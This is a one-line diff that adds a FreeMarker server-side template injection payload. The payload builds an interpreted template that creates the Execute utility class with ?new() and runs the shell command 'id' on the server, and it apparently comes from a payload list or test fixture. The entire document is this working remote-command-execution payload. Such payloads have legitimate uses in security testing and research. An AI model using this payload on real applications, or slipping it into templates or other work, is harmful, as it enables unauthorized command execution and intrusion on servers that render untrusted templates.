@@ -1,0 +1,1 @@
+<#assign t = "<#assign x = 'freemarker.template.utility.Execute'?new()>${x('id')}"?interpret><@t/>
